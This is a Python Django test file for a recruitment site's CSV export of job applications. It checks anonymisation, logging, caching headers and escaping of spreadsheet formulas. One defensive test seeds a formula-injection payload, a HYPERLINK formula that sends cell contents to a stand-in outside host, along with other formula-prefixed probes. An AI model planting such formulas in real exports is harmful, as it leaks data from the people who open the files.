"""What recruiters take away as a table: nothing is computed, nothing is told that is covered."""

import csv
import io

from django.test import SimpleTestCase

from careers import services
from jfj.demo.factories import ApplicationFactory
from jfj.lib.desk_log import LogLine
from jfj.lib.tables import as_cell
from tests.careers.desk import DeskCase


class TableTests(DeskCase):
    def rows(self):
        response = self.client.post(f"/admin/careers/vacancy/{self.vacancy.pk}/export/")
        self.assertTrue(response.streaming)
        text = b"".join(response).decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))

    def test_read_without_names_it_has_no_column_of_a_person(self):
        row = self.rows()[0]
        self.assertEqual(row["Reference"], self.application.reference)
        self.assertIn("Four years.", row["Which courts have you followed?"])
        self.assertFalse({"Name", "E-mail", "Phone", "Links", "CV", "Letter"} & {*row})

    def test_it_has_names_when_they_are_shown(self):
        services.lift(self.vacancy, by=self.recruiter)
        row = self.rows()[0]
        self.assertEqual((row["Name"], row["Phone"]), ("Zawadi Okelloh", "'+254 20 555 0199"))

    def test_no_cell_is_a_formula(self):
        services.lift(self.vacancy, by=self.recruiter)
        self.application.answers.update(text='=HYPERLINK("https://example.org/?"&A1)')
        self.question.text = "@SUM(1)"
        self.question.save()
        for name in ("=1+1", "+1", "-1", "@x", "\tx", " =1"):
            ApplicationFactory(vacancy=self.vacancy, name=name)
        for row in self.rows():
            for cell in (*row, *row.values()):
                self.assertNotRegex(cell, r"^\s*[=+\-@\t\r]")

    def test_an_answer_outlives_its_question(self):
        asked, _deleted = self.question.text, self.question.delete()
        other = self.rows()[0]["To questions no longer asked"]
        self.assertTrue(other.startswith(asked))
        self.assertIn("Four years.", other)
        self.assertNotIn("ZAWADI", other)

    def test_it_is_in_the_log_once_with_what_it_held(self):
        self.rows()
        line = LogLine.objects.get(verb="export_applications")
        self.assertEqual((line.by_name, line.said), ("Njeri", "1 applications exported, without names"))

    def test_it_is_kept_nowhere(self):
        response = self.client.post(f"/admin/careers/vacancy/{self.vacancy.pk}/export/")
        self.assertIn("no-store", response["Cache-Control"])
        self.assertRegex(response["Content-Disposition"], r'^attachment; filename="[a-z0-9-]+\.csv"$')

    def test_a_get_takes_nothing_away(self):
        self.assertEqual(self.client.get(f"/admin/careers/vacancy/{self.vacancy.pk}/export/").status_code, 405)

    def test_what_nobody_has_confirmed_is_not_in_it(self):
        ApplicationFactory(vacancy=self.vacancy, unconfirmed=True)
        self.assertEqual(len(self.rows()), 1)


class CellTests(SimpleTestCase):
    def test_only_what_would_be_computed_is_changed(self):
        for text in ("=1", "+1", "-1", "@a", "\t1", "\r1", "\n1", "  =1", "＝1"):
            self.assertEqual(as_cell(text), f"'{text}")
        for value in ("1=1", "a@b.org", "", 5, None, -3):
            self.assertEqual(as_cell(value), value)
